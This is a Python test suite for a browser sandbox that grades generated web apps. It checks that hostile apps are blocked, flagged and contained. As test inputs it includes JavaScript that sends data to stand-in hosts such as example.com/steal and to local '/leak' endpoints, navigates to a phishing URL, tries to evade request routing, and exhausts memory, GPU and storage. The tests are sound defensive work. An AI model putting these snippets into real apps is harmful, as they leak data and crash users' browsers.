"""WebApp-v0 against hostile apps: each one is contained, flagged, and the next episode works."""

from __future__ import annotations

import asyncio
import gc
import logging
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from codegym.envs.webapp import BrowserPool, WebAppEnv, grader, pool, session

from codegym.errors import InfraError

GOLD = """<!doctype html><html><body><button id="b">go</button><p id="out">idle</p>
<script>document.getElementById("b").addEventListener("click", () => {
  document.getElementById("out").textContent = "clicked"; });</script></body></html>"""
TASK = {
    "id": "click",
    "request": "A button #b that sets #out to 'clicked'.",
    "gold": GOLD,
    "rubric": [
        {
            "id": "click",
            "text": "Clicking #b shows 'clicked' in #out.",
            "flow": [{"click": "#b"}, {"expect": "text", "sel": "#out", "equals": "clicked"}],
        }
    ],
    "broken": [{"name": "inert", "breaks": ["click"], "code": GOLD.replace('"clicked"', '"idle"')}],
}


def working_app_plus(script: str) -> str:
    """The gold app with a hostile script appended."""
    return GOLD.replace("</body>", f"<script>{script}</script></body>")


@pytest.fixture(scope="module")
def env():
    e = WebAppEnv(tasks=[TASK], load_timeout_s=3, item_timeout_s=4)
    yield e
    e.close()


def grade(env, html):
    env.reset(options={"task_id": "click"})
    _, reward, _, _, info = env.step(f"```html\n{html}\n```")
    assert "infra_error" not in info, info["infra_error"]  # a hostile app is graded, not an outage
    return reward, info


def gold_still_works(env):
    env.reset(options={"task_id": "click"})
    reward, info = grade(env, GOLD)
    assert reward == 1.0, info["feedback"]


@pytest.fixture(scope="module")
def bystander():
    """A server on another localhost port that counts the requests reaching it."""
    hits = []

    class H(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *a):
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv.server_address[1], hits
    srv.shutdown()
    srv.server_close()


def test_endless_loop_at_load_is_cut_off_and_flagged_then_next_episode_works(env):
    reward, info = grade(env, "<html><body><p id=out>x</p><script>while (true) {}</script></body></html>")
    assert "hung_page" in info["audit"]["flags"]
    assert info["reward_components"]["runtime"] == 0.0 and info["reward_components"]["functional"] == 0.0
    assert reward <= 0.2 and "infra_error" not in info
    gold_still_works(env)


def test_endless_loop_in_a_click_handler_fails_the_item_and_next_episode_works(env):
    html = GOLD.replace('document.getElementById("out").textContent = "clicked";', "while (true) {}")
    reward, info = grade(env, html)
    item = info["verdict"]["items"][0]
    assert not item["passed"] and "stopped responding" in item["reason"]
    assert "hung_page" in info["audit"]["flags"] and "infra_error" not in info
    gold_still_works(env)


def test_endless_loop_in_a_key_handler_fails_at_its_step_within_the_action_limit():
    # A key press on the page (no "on" element) goes straight to the keyboard: it keeps the
    # 2 s action limit, so the item fails at that step instead of using up its budget.
    app = """<p id="o">-</p><script>
      document.addEventListener("keydown", (e) => { if (e.key === "Escape") { for (;;) {} } });</script>"""
    flow = [{"press": "Escape"}, {"expect": "text", "sel": "#o", "equals": "closed"}]
    e = WebAppEnv(
        tasks=[{"id": "k", "request": "r", "gold": app, "rubric": [{"id": "esc", "text": "esc", "flow": flow}]}],
        item_timeout_s=8,
    )
    try:
        e.reset()
        _, _, _, _, info = e.step(f"```html\n{app}\n```")
    finally:
        e.close()
    item = info["verdict"]["items"][0]
    assert item["failed_step"] == 0 and "did not take the input" in item["reason"], item
    assert "hung_page" in info["audit"]["flags"]


def test_alert_storm_is_dismissed_and_flagged(env):
    reward, info = grade(
        env, working_app_plus("for (let i = 0; i < 30; i++) alert('hi ' + i); setInterval(() => alert('again'), 50);")
    )
    assert "dialog_storm" in info["audit"]["flags"]
    assert info["reward_components"]["runtime"] == 0.0
    gold_still_works(env)


def test_an_alert_storm_that_changes_the_url_between_alerts_is_flagged(env):
    # pushState and hash changes are navigations within the document: they must not start
    # the count of a page load again (regression: they did, and the storm went unflagged)
    storm = (
        "for (let i = 0; i < 30; i++) { alert('hi ' + i); history.pushState({}, '', '?n=' + i); location.hash = i; }"
    )
    reward, info = grade(env, working_app_plus(storm))
    assert "dialog_storm" in info["audit"]["flags"], info["verdict"]["containment"]
    assert info["reward_components"]["runtime"] == 0.0
    gold_still_works(env)


WINDOW_OPENERS = {
    # each window would load the app, which opens more: on 2 cores under load such a grading
    # took 30-47 s when the windows opened, and once overran the pool's limit (an infra error)
    "window.open loop": "window.open('/'); setInterval(() => window.open('/'), 10);",
    "frame": "const f = document.createElement('iframe'); f.srcdoc = '<body onload=open(`/`)>';"
    " document.body.appendChild(f);",
    "link with a target, on the click": "const a = document.body.appendChild(document.createElement('a'));"
    " a.href = '/'; a.target = '_blank'; document.getElementById('b').addEventListener('click', () => a.click());",
    "sandboxed frame": "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-popups';"
    " f.srcdoc = '<body onload=open(`/`)>'; document.body.appendChild(f);",
    "form with a target": "const f = document.body.appendChild(document.createElement('form'));"
    " f.action = '/'; f.target = 'w'; f.submit();",
}


@pytest.mark.parametrize("how", sorted(WINDOW_OPENERS))
def test_a_window_the_app_opens_is_flagged(env, how):
    reward, info = grade(env, working_app_plus(WINDOW_OPENERS[how]))
    assert info["audit"]["flags"] == ["popup"] and info["verdict"]["containment"]["popups"] > 0, info["verdict"]
    assert info["audit"]["audit_reward"] == 0.0


@pytest.mark.skipif(not Path(pool.FULL_BROWSER).exists(), reason="Debian's chromium is not installed")
@pytest.mark.parametrize("how", ["window.open loop", "sandboxed frame"])
def test_the_full_browser_closes_the_windows_an_app_opens_and_flags_them(how):
    # It ignores the switch that makes the headless shell open none (pool.LAUNCH_ARGS), and
    # would run a sandboxed frame in a process of its own.
    p = BrowserPool(executable=pool.FULL_BROWSER)
    e = WebAppEnv(tasks=[TASK], pool=p)
    try:
        e.reset()
        _, reward, _, _, info = e.step(f"```html\n{working_app_plus(WINDOW_OPENERS[how])}\n```")
        assert "popup" in info["audit"]["flags"] and "infra_error" not in info, info["verdict"]
    finally:
        e.close()
        p.close()


def test_fetch_to_outside_and_to_other_localhost_ports_is_blocked_and_flagged(env, bystander):
    port, hits = bystander
    script = (
        f"fetch('http://example.com/steal?x=1').catch(() => {{}});"
        f"fetch('http://127.0.0.1:{port}/leak').catch(() => {{}});"
        f"new Image().src = 'http://10.0.0.1/pixel.gif';"
        f"navigator.sendBeacon('http://localhost:{port}/beacon', 'x');"
    )
    reward, info = grade(env, working_app_plus(script))
    blocked = info["verdict"]["containment"]["blocked"]
    assert "blocked_request" in info["audit"]["flags"] and info["audit"]["audit_reward"] == 0.0
    assert any("example.com" in u for u in blocked) and any(f":{port}/leak" in u for u in blocked)
    assert any("10.0.0.1" in u for u in blocked)
    assert hits == []  # nothing reached the other local server


def test_workers_cannot_reach_other_localhost_ports(env, bystander):
    # A dedicated worker's fetch is routed like the page's; shared workers (whose requests
    # are not) are switched off, so their fetch, sync XHR and WebSocket never start.
    port, hits = bystander

    def worker(kind, code):
        blob = f"URL.createObjectURL(new Blob([{code!r}], {{type: 'text/javascript'}}))"
        return f"try {{ new {kind}({blob}); }} catch (e) {{}}"

    script = "".join(
        [
            worker("Worker", f"fetch('http://127.0.0.1:{port}/worker').catch(() => {{}})"),
            worker("SharedWorker", f"fetch('http://127.0.0.1:{port}/shared').catch(() => {{}})"),
            worker(
                "SharedWorker",
                f"const x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:{port}/xhr', false);"
                "try { x.send(); } catch (e) {}",
            ),
            worker("SharedWorker", f"try {{ new WebSocket('ws://127.0.0.1:{port}/ws'); }} catch (e) {{}}"),
        ]
    )
    reward, info = grade(env, working_app_plus(script))
    time.sleep(0.5)  # time for a late request to land
    assert hits == []
    assert any(f":{port}/worker" in u for u in info["verdict"]["containment"]["blocked"])
    assert "blocked_request" in info["audit"]["flags"]


@pytest.fixture(scope="module")
def listener():
    """Another local service: a TCP and a UDP socket on one port, recording whatever arrives."""
    tcp = socket.create_server(("127.0.0.1", 0))
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    arrived = []

    def accept():
        while True:
            try:
                conn, _ = tcp.accept()
            except OSError:
                return
            arrived.append("tcp")
            conn.close()

    def receive():
        while True:
            try:
                udp.recvfrom(4096)
            except OSError:
                return
            arrived.append("udp")

    for fn in (accept, receive):
        threading.Thread(target=fn, daemon=True).start()
    yield port, arrived
    tcp.close()
    udp.close()  # (the daemon threads end with the test run)


@pytest.mark.parametrize(
    "script",
    [
        # a worker's WebSocket passes neither the request routing nor the WebSocket mock
        "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://127.0.0.1:PORT/exfil')\"])));",
        # speculation rules: the browser prefetches (or prerenders) outside the page's routing
        "const s = document.createElement('script'); s.type = 'speculationrules';"
        " s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['http://127.0.0.1:PORT/p']}],"
        " prerender: [{source: 'list', urls: ['http://127.0.0.1:PORT/r']}]}); document.head.append(s);",
        # WebRTC's TURN over TCP, and WebTransport (QUIC over UDP)
        "const pc = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:PORT?transport=tcp',"
        " username: 'u', credential: 'c'}]}); pc.createDataChannel('x');"
        " pc.createOffer().then((o) => pc.setLocalDescription(o));",
        "const wt = new WebTransport('https://127.0.0.1:PORT/wt');"
        " wt.ready.catch(() => {}); wt.closed.catch(() => {});",
    ],
    ids=["worker-websocket", "speculation-rules", "turn-tcp", "webtransport"],
)
def test_what_the_request_routing_never_sees_cannot_reach_other_localhost_ports(env, listener, script):
    port, arrived = listener
    before = len(arrived)
    reward, info = grade(env, working_app_plus("try { " + script.replace("PORT", str(port)) + " } catch (e) {}"))
    time.sleep(1.0)  # time for a late connection to land
    assert arrived[before:] == []
    assert info["reward_components"]["functional"] == 1.0, info["feedback"]  # the app itself still works


def test_a_request_the_last_step_set_off_is_flagged_every_time(env):
    # The click handler's fetch runs from a zero-delay timer, after the item's expectation
    # already holds: it must be seen before the page goes, in every grading alike.
    html = GOLD.replace(
        'document.getElementById("out").textContent = "clicked";',
        'document.getElementById("out").textContent = "clicked";'
        " setTimeout(() => fetch('http://example.com/collect').catch(() => {}), 0);",
    )
    flagged = ["blocked_request" in grade(env, html)[1]["audit"]["flags"] for _ in range(4)]
    assert flagged == [True] * 4


def test_websocket_is_mocked_and_flagged(env, bystander):
    port, hits = bystander
    reward, info = grade(env, working_app_plus(f"try {{ new WebSocket('ws://127.0.0.1:{port}/ws'); }} catch (e) {{}}"))
    assert "websocket" in info["audit"]["flags"] and hits == []


HIDE_ERRORS = {
    "onerror returns true": "window.onerror = () => true;",
    "listener prevents default": "addEventListener('error', (e) => e.preventDefault());",
    "capturing listener stops it": "addEventListener('error', (e) => { e.preventDefault();"
    " e.stopImmediatePropagation(); }, true); addEventListener('unhandledrejection', (e) => e.preventDefault());",
    "built-ins replaced first": "Array.prototype.splice = function () { return []; };"
    " Array.prototype[Symbol.iterator] = function* () {}; Object.prototype.toJSON = function () { return {}; };"
    " Error.prepareStackTrace = () => 'fine';"
    " window.onerror = (m, f, l, c, err) => { err.stack = 'fine'; return true; };",
    # the fake clock logs what a timer throws with the page's console.error
    "console silenced": "console.error = () => {}; window.console = {log() {}, error() {}, warn() {}};",
}


@pytest.mark.parametrize("hide", HIDE_ERRORS.values(), ids=HIDE_ERRORS.keys())
@pytest.mark.parametrize(
    "error",
    [
        "let x = ;",
        "null.foo;",
        "Promise.reject(new Error('nope'));",
        "setTimeout(() => null.foo, 0);",
        "setTimeout('null.foo', 0);",
    ],
)
def test_an_app_cannot_hide_its_own_errors(env, hide, error):
    html = GOLD.replace("<button", f"<script>{hide}</script><script>{error}</script><button")
    reward, info = grade(env, html)
    comps = info["reward_components"]
    assert comps["runtime"] == 0.0, info["verdict"]["load"]
    if error == "let x = ;":  # did not parse: the source stage fails, where it failed is known
        assert comps["source"] == 0.0 and info["verdict"]["load"]["parse_at"][0]["line"] == 1
    assert reward < 1.0


def test_code_given_to_set_timeout_as_a_string_still_runs_in_the_global_scope(env):
    # (each timer is wrapped to see what it throws: a string one must run as the browser runs it)
    html = GOLD.replace(
        'document.getElementById("out").textContent = "clicked";',
        "setTimeout('var said = String.fromCharCode(99) + \"licked\"', 0);"
        " setTimeout('document.getElementById(\"out\").textContent = said', 0);",
    )
    reward, info = grade(env, html)
    assert reward == 1.0 and info["verdict"]["load"]["page_errors"] == [], info["feedback"]


def test_an_error_event_the_app_dispatches_and_prevents_itself_is_no_error(env):
    html = GOLD.replace(
        "<button",
        "<script>addEventListener('error', (e) => e.preventDefault());"
        " dispatchEvent(new ErrorEvent('error', {cancelable: true, message: 'app notice'}));</script><button",
    )
    reward, info = grade(env, html)
    assert reward == 1.0 and info["verdict"]["load"]["page_errors"] == []


def test_navigation_away_is_blocked_and_flagged(env):
    html = GOLD.replace(
        'document.getElementById("out").textContent = "clicked";', "location.href = 'http://example.com/phish';"
    )
    reward, info = grade(env, html)
    assert "navigation_away" in info["audit"]["flags"] or "blocked_request" in info["audit"]["flags"]
    assert any("example.com" in u for u in info["verdict"]["containment"]["blocked"])
    assert not info["verdict"]["items"][0]["passed"]
    gold_still_works(env)


def test_opening_a_blob_document_the_app_made_is_no_navigation_away(env):
    html = GOLD.replace(
        'document.getElementById("out").textContent = "clicked";',
        "location.href = URL.createObjectURL(new Blob(['<p>report</p>'], {type: 'text/html'}));",
    )
    reward, info = grade(env, html)
    assert info["audit"]["flags"] == [] and info["verdict"]["containment"]["navigated_away"] == []


def test_huge_dom_built_by_a_click_is_flagged(env):
    script = (
        "document.getElementById('b').addEventListener('click', () => { const f = document.createDocumentFragment();"
        " for (let i = 0; i < 60000; i++) f.appendChild(document.createElement('i')); document.body.appendChild(f); });"
    )
    reward, info = grade(env, working_app_plus(script))
    assert "huge_dom" in info["audit"]["flags"] and info["reward_components"]["runtime"] == 0.0
    assert info["verdict"]["load"]["dom_nodes"] < 100  # (the load itself was small)
    gold_still_works(env)


HUGE_DOMS = {
    "document": "const f = document.createDocumentFragment();"
    " for (let i = 0; i < 60000; i++) f.appendChild(document.createElement('i')); document.body.appendChild(f);",
    # where a walk of the document does not reach
    "closed shadow root": "const r = document.body.appendChild(document.createElement('div'))"
    ".attachShadow({mode: 'closed'}); for (let i = 0; i < 60000; i++) r.appendChild(document.createElement('i'));",
    "frame": "const f = document.createElement('iframe'); f.srcdoc = '<body>' + '<i></i>'.repeat(60000);"
    " document.body.appendChild(f);",
    "detached nodes": "window.kept = []; for (let i = 0; i < 60000; i++) kept.push(document.createElement('i'));",
}


@pytest.mark.parametrize("where", sorted(HUGE_DOMS))
def test_huge_dom_is_flagged(env, where):
    reward, info = grade(env, working_app_plus(HUGE_DOMS[where]))
    assert "huge_dom" in info["audit"]["flags"] and info["reward_components"]["runtime"] == 0.0, info["verdict"]["load"]
    gold_still_works(env)


def test_an_app_that_replaces_a_big_table_often_is_not_a_huge_dom(env):
    # 150,000 nodes made and dropped: garbage, not a DOM the page keeps.
    script = (
        "const t = document.body.appendChild(document.createElement('table'));"
        " for (let k = 0; k < 100; k++) { t.innerHTML = '';"
        " for (let i = 0; i < 500; i++) t.insertRow().insertCell().textContent = i; }"
    )
    reward, info = grade(env, working_app_plus(script))
    assert reward == 1.0 and info["audit"]["flags"] == [], info["feedback"]


def test_storage_bomb_is_flagged_and_wiped_before_the_next_item(env):
    script = "try { for (let i = 0; i < 40; i++) localStorage.setItem('k' + i, 'x'.repeat(100000)); } catch (e) {}"
    reward, info = grade(env, working_app_plus(script))
    assert "storage_bomb" in info["audit"]["flags"] and info["reward_components"]["runtime"] == 0.0
    gold_still_works(env)


def test_storage_past_the_quota_fails_to_write(env):
    # A context keeps its storage in the browser process's memory, which no process cap
    # covers: writes past the app's quota must fail. 30 MB for Cache Storage in 1 MB responses.
    fill = """async () => { const c = await caches.open('x'); let n = 0;
      try { for (; n < 30; n++) await c.put('/k' + n, new Response(new Uint8Array(1e6))); }
      catch (e) { return [n, e.name]; } return [n, 'none']; }"""

    async def written(browser):
        server = session.start_server()
        server.serve({"index.html": GOLD})
        sess = await session.open_session(browser, server.origin)
        try:
            await session.goto(sess.page, server.origin, False, fresh=True)
            return await sess.page.evaluate(fill)
        finally:
            await sess.ctx.close()
            server.close()

    n, error = env.pool.run(written, 60)
    assert error == "QuotaExceededError" and n * 1e6 <= session.QUOTA_BYTES


@pytest.fixture(scope="module")
def capped():
    """An env on a pool of its own whose renderer and GPU processes may map 512 MiB of data."""
    pool = BrowserPool(memory_limit_mb=512)
    e = WebAppEnv(tasks=[TASK], pool=pool, load_timeout_s=3, item_timeout_s=4)
    yield e, pool
    e.close()
    pool.close()


def test_every_renderer_and_gpu_process_runs_under_the_memory_cap(capped):
    env, pool = capped
    gold_still_works(env)
    limits = {}
    for pid, kind in pool.chromium_processes().items():
        try:
            with open(f"/proc/{pid}/limits") as f:
                line = next(line for line in f if line.startswith("Max data size"))
        except FileNotFoundError:  # (a renderer that exited since)
            continue
        limits.setdefault(kind, set()).add(line.split()[3])
    assert {"zygote", "renderer", "gpu-process"} <= set(limits)
    assert all(limits[kind] == {str(512 << 20)} for kind in ("zygote", "renderer", "gpu-process")), limits


def test_typed_arrays_past_the_memory_cap_fail_to_allocate(capped):
    # 3 GB asked for in 100 MB arrays: allocation fails at the cap (uncapped, all of it would
    # be allocated), and the uncaught RangeError fails the runtime stage.
    env, _ = capped
    script = "const keep = []; for (let i = 0; i < 30; i++) keep.push(new Uint8Array(100e6).fill(1));"
    reward, info = grade(env, working_app_plus(script))
    errors = info["verdict"]["load"]["page_errors"]
    assert any("allocation failed" in e["message"] for e in errors), errors
    assert info["reward_components"]["runtime"] == 0.0
    gold_still_works(env)


def test_a_heap_past_the_memory_cap_crashes_its_renderer_only(capped):
    env, pool = capped
    restarts = pool.restarts
    script = "const keep = []; for (let i = 0; i < 300; i++) keep.push(new Array(1e6).fill(i + 0.5));"
    reward, info = grade(env, working_app_plus(script))
    assert "renderer_crash" in info["audit"]["flags"] and reward < 0.5
    gold_still_works(env)
    assert pool.restarts == restarts  # the browser itself was not touched


def test_a_gpu_process_out_of_memory_is_flagged_and_the_next_app_gets_webgl(capped):
    # WebGL textures live in the GPU process. Over the cap it crashes, taking every page's
    # WebGL with it: the app is graded again on a fresh browser, crashes that one's GPU
    # process too, and is blamed. Chromium turns WebGL off for good after a few such crashes,
    # so the pool restarts the browser after each.
    env, pool = capped
    restarts, crashes = pool.restarts, pool.gpu_crashes
    bomb = (
        "const gl = document.createElement('canvas').getContext('webgl'); const px = new Uint8Array(2048 * 2048 * 4);"
        " for (let i = 0; i < 40; i++) { gl.bindTexture(gl.TEXTURE_2D, gl.createTexture());"
        " gl.texImage2D(gl.TEXTURE_2D, 0, gl.RGBA, 2048, 2048, 0, gl.RGBA, gl.UNSIGNED_BYTE, px); gl.finish(); }"
    )
    reward, info = grade(env, working_app_plus(bomb))
    assert "gpu_crash" in info["audit"]["flags"] and info["reward_components"]["runtime"] == 0.0
    assert pool.gpu_crashes == crashes + 2
    webgl_app = GOLD.replace(
        '"clicked"', '(document.createElement("canvas").getContext("webgl") ? "clicked" : "no WebGL")'
    )
    reward, info = grade(env, webgl_app)
    assert reward == 1.0, info["feedback"]
    assert pool.restarts == restarts + 2


class KillsTheGpuProcessOnce(BrowserPool):
    """A pool whose GPU process is killed just before the grading after ``armed`` is set."""

    armed = False

    def run_gpu_checked(self, fn, timeout_s, alone=False):
        if self.armed:
            self.armed = False
            for pid, kind in self.chromium_processes().items():
                if kind == "gpu-process":
                    os.kill(pid, signal.SIGKILL)
        return super().run_gpu_checked(fn, timeout_s, alone)


def test_a_gpu_crash_the_app_did_not_cause_costs_a_second_grading_not_a_flag():
    # The GPU process serves every page: one that crashes under a grading (another thread's
    # texture bomb, here a kill) must not be blamed on the app being graded.
    pool = KillsTheGpuProcessOnce()
    try:
        e = WebAppEnv(tasks=[TASK], pool=pool)
        grade(e, GOLD)  # the browser and its GPU process start
        pool.armed = True
        reward, info = grade(e, GOLD)
        assert reward == 1.0 and info["audit"]["flags"] == [], info["feedback"]
        assert pool.gpu_crashes == 1 and pool.restarts == 1
    finally:
        pool.close()


def test_a_run_alone_waits_for_the_running_one_and_holds_later_ones_back():
    # What crashes the shared GPU process during a run alone is that run's doing.
    pool = BrowserPool()
    spans, began = {}, threading.Event()

    def run(name, alone):
        async def fn(browser):
            began.set()
            start = time.monotonic()
            await asyncio.sleep(0.5)
            spans[name] = (start, time.monotonic())

        pool.run_gpu_checked(fn, 30, alone)

    try:
        pool.run(lambda browser: asyncio.sleep(0), 60)  # the launch
        first = threading.Thread(target=run, args=("first", False))
        first.start()
        began.wait(30)
        alone = threading.Thread(target=run, args=("alone", True))
        alone.start()
        deadline = time.monotonic() + 30
        while not pool._alone and time.monotonic() < deadline:  # (the run alone waits for the first)
            time.sleep(0.01)
        later = threading.Thread(target=run, args=("later", False))
        later.start()
        for t in (first, alone, later):
            t.join()
    finally:
        pool.close()
    assert spans["first"][1] <= spans["alone"][0] and spans["alone"][1] <= spans["later"][0], spans


def test_closing_the_pool_ends_the_runs_in_flight_and_those_waiting_their_turn():
    # A trainer that shuts down with gradings under way must not hang for their time limits.
    pool = BrowserPool()
    began, errors = threading.Event(), {}

    async def hold(browser):
        began.set()
        await asyncio.sleep(300)

    def run(name, alone):
        try:
            pool.run_gpu_checked(hold, 600, alone=alone)
        except InfraError as exc:
            errors[name] = (str(exc), time.monotonic())

    threads = [threading.Thread(target=run, args=("running", True))]
    threads[0].start()
    assert began.wait(60)
    threads.append(threading.Thread(target=run, args=("waiting", False)))  # held back by the run alone
    threads[1].start()
    time.sleep(0.5)
    closed = time.monotonic()
    pool.close()
    for t in threads:
        t.join(60)
    assert sorted(errors) == ["running", "waiting"], errors
    assert all("closed" in msg and at - closed < 30 for msg, at in errors.values()), errors  # not their 20-minute limit
    assert pool.browser_pids() == []


def test_pool_survives_a_crashed_browser():
    pool = BrowserPool()
    try:
        e = WebAppEnv(tasks=[TASK], pool=pool)
        reward, _ = grade(e, GOLD)
        assert reward == 1.0 and pool.launches == 1
        assert pool.browser_pids()
        pool.kill_browser()
        reward, info = grade(e, GOLD)
        assert reward == 1.0, info
        assert pool.launches == 2 and pool.restarts == 1
    finally:
        pool.close()
    assert pool.browser_pids() == []  # closing leaves no Chromium behind


def test_restarting_a_hung_browser_closes_the_servers_opened_ahead_for_it():
    # Closing the contexts opened ahead never returns on a hung browser: their static server
    # (a listening socket and a thread) must be closed all the same, not left behind.
    pool = BrowserPool()
    try:
        e = WebAppEnv(tasks=[TASK], pool=pool)
        assert grade(e, GOLD)[0] == 1.0
        pool.run(session.spare_opened, 30)
        ports = [int(s.server.origin.rsplit(":", 1)[1]) for s in session._SPARES[id(pool._browser)]]
        assert ports
        for pid in pool.browser_pids():
            os.kill(pid, signal.SIGSTOP)
        pool.mark_suspect()
        assert grade(e, GOLD)[0] == 1.0 and pool.restarts == 1
    finally:
        pool.close()
    for port in ports:
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", port), timeout=5).close()


def artifact_dirs() -> set[str]:
    """This process's pools' temporary directories for what a browser downloads.

    Only this process's: another process using codegym on the machine makes its own meanwhile.
    """
    mine = f"{pool.ARTIFACTS_PREFIX}{os.getpid()}-"
    return {p.name for p in Path(tempfile.gettempdir()).iterdir() if p.name.startswith(mine)}


def test_pool_survives_playwrights_driver_dying(caplog):
    # Without its driver (the browser's parent) the browser's connection fails every call yet
    # says it is connected: that must be a dead browser, not an app that failed to load.
    before = artifact_dirs()
    pool = BrowserPool()

    def driver():
        (browser,) = pool.browser_pids()
        with open(f"/proc/{browser}/stat") as stat:
            return int(stat.read().rsplit(")", 1)[1].split()[1])

    try:
        e = WebAppEnv(tasks=[TASK], pool=pool)
        assert grade(e, GOLD)[0] == 1.0
        first = driver()
        (browser,) = pool.browser_pids()
        with open(f"/proc/{browser}/cmdline", "rb") as cmdline:
            (profile,) = [a[16:].decode() for a in cmdline.read().split(b"\0") if a.startswith(b"--user-data-dir=")]
        os.kill(first, signal.SIGKILL)
        reward, info = grade(e, GOLD)
        assert reward == 1.0, info
        assert pool.launches == 2 and driver() != first
    finally:
        pool.close()
    assert not Path(profile).exists()  # the dead driver's temporary profile is removed too
    assert artifact_dirs() == before  # and so is every temporary directory it had
    gc.collect()  # nor does the dead driver's connection log an error when it is collected
    assert not [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]


@pytest.mark.parametrize(
    ("exc", "logged"),
    [
        (Exception("Connection closed while reading from the driver"), False),
        (BrokenPipeError(32, "Broken pipe"), False),  # the write that found the driver gone first
        (ValueError("something else"), True),
    ],
)
def test_only_the_dead_drivers_unawaited_errors_are_kept_out_of_the_log(caplog, exc, logged):
    loop = asyncio.new_event_loop()
    try:
        pool._unless_driver_gone(loop, {"message": "Future exception was never retrieved", "exception": exc})
    finally:
        loop.close()
    assert any(r.levelno >= logging.ERROR for r in caplog.records) == logged


def test_console_messages_stay_out_of_the_browsers_stderr():
    # Playwright's driver keeps the browser's last lines of stderr, however long: a page
    # logging 10 MB strings would grow it by the size of each.
    page = "data:text/html,<script>console.log('logged-' + 'by-the-page')</script>"
    run = subprocess.run(
        [pool.CHROMIUM, *pool.LAUNCH_ARGS, "--headless", "--dump-dom", page], capture_output=True, text=True, timeout=60
    )
    assert "logged-by-the-page" not in run.stderr and "logged-" in run.stdout


def test_a_browser_that_dies_mid_grading_is_graded_again_not_scored():
    # The browser is killed while an item waits: the closed page must not count as the
    # app's failure (a fake low score); the pool grades again on a new browser.
    slow = {
        **TASK,
        "rubric": [{**TASK["rubric"][0], "flow": [{"click": "#b"}, {"wait": 3000}, *TASK["rubric"][0]["flow"][1:]]}],
    }
    pool = BrowserPool()

    def kill_once_launched():  # (a launch takes longer on a busy machine)
        while not pool.launches:
            time.sleep(0.02)
        time.sleep(0.8)
        pool.kill_browser()

    try:
        e = WebAppEnv(tasks=[slow], pool=pool)
        e.reset()
        killer = threading.Thread(target=kill_once_launched)
        killer.start()
        _, reward, _, _, info = e.step(f"```html\n{GOLD}\n```")
        killer.join()
        assert reward == 1.0 and "infra_error" not in info, info["feedback"]
        assert pool.launches == 2
    finally:
        pool.close()


def test_threads_starting_on_a_fresh_pool_share_one_browser():
    pool = BrowserPool()
    try:
        rewards = []

        def one():
            rewards.append(grade(WebAppEnv(tasks=[TASK], pool=pool), GOLD)[0])

        threads = [threading.Thread(target=one) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert rewards == [1.0] * 3 and pool.launches == 1
    finally:
        pool.close()


def test_forked_vector_env_workers_grade_after_the_parent_did():
    # gymnasium's AsyncVectorEnv forks on Linux: the workers inherit the parent's shared
    # pool object, but not its loop thread or browser, and must use a pool of their own.
    from gymnasium.vector import AsyncVectorEnv

    parent = WebAppEnv(tasks=[TASK])
    assert grade(parent, GOLD)[0] == 1.0
    venv = AsyncVectorEnv([lambda: WebAppEnv(tasks=[TASK])] * 2, context="fork")
    try:
        venv.reset(seed=0)
        gold = f"```html\n{GOLD}\n```"
        venv.step_async((gold, gold))
        _, rewards, _, _, _ = venv.step_wait(timeout=90)
        assert list(rewards) == [1.0, 1.0]
        workers = [f"{pool.ARTIFACTS_PREFIX}{p.pid}-" for p in venv.processes]
    finally:
        venv.close(terminate=True)
    assert grade(parent, GOLD)[0] == 1.0  # the workers left the parent's browser alone

    def left_by_workers():
        return [p.name for p in Path(tempfile.gettempdir()).iterdir() if p.name.startswith(tuple(workers))]

    assert len(left_by_workers()) == 2  # killed, the workers could not remove their pools' own
    BrowserPool().close()
    assert left_by_workers() == []  # the next pool made did


def test_a_download_is_cancelled_and_flagged(env):
    # 20 MB offered as a download at load: nothing is written, the grading flags it.
    app = working_app_plus(
        "const a = document.createElement('a'); a.download = 'x.bin';"
        " a.href = URL.createObjectURL(new Blob([new Uint8Array(20e6)])); document.body.append(a); a.click();"
    )
    reward, info = grade(env, app)
    assert "download" in info["audit"]["flags"] and info["audit"]["audit_reward"] == 0.0
    assert info["verdict"]["containment"]["downloads"] >= 1
    gold_still_works(env)


def test_a_context_opened_ahead_and_not_needed_is_closed_even_while_it_opens():
    # A one-item rubric needs two of the three contexts a spare opens. When the grading
    # claims the spare before the third has opened (back-to-back gradings on a busy
    # machine), that one must still be closed once it is open: counted in the browser itself,
    # which also knows the contexts whose opening was interrupted.
    pool = BrowserPool()

    async def claim_while_opening(browser):
        cdp = await browser.new_browser_cdp_session()
        for wait in (0.0, 0.002, 0.005, 0.01, 0.02, 0.04, 0.08):
            for spare in [session.claim_spare(browser, session.Budget(), 3)]:  # the one kept so far
                spare and spare.discard()
            session.open_spare(browser, session.Budget(), 3)
            await asyncio.sleep(wait)
            session.claim_spare(browser, session.Budget(), 1).discard()
        await asyncio.sleep(3)
        return len((await cdp.send("Target.getBrowserContexts"))["browserContextIds"])

    try:
        pool.run(lambda b: grader.grade_in_browser(b, {"index.html": GOLD}, False, TASK["rubric"]), 60)
        assert pool.run(claim_while_opening, 60) == 0
    finally:
        pool.close()


SHARED_POOL_USERS = """
from codegym.envs.webapp import BrowserPool, WebAppEnv

def graded(env):
    env.reset(options={"task_id": "counter-01"})
    return env.step(env.gold_action())[1] == 1.0

a, b = WebAppEnv(), WebAppEnv()
assert graded(a) and graded(b)
shared = a.pool
c = a.fork()
assert graded(c) and c.pool is shared
a.close(); c.close()
assert shared.browser_pids(), "closed while env b still uses it"
b.close()
assert shared.browser_pids() == [], "the last env closed and left Chromium running"
own = BrowserPool()
d = WebAppEnv(pool=own)
assert graded(d) and graded(WebAppEnv())  # a new shared pool for the next env
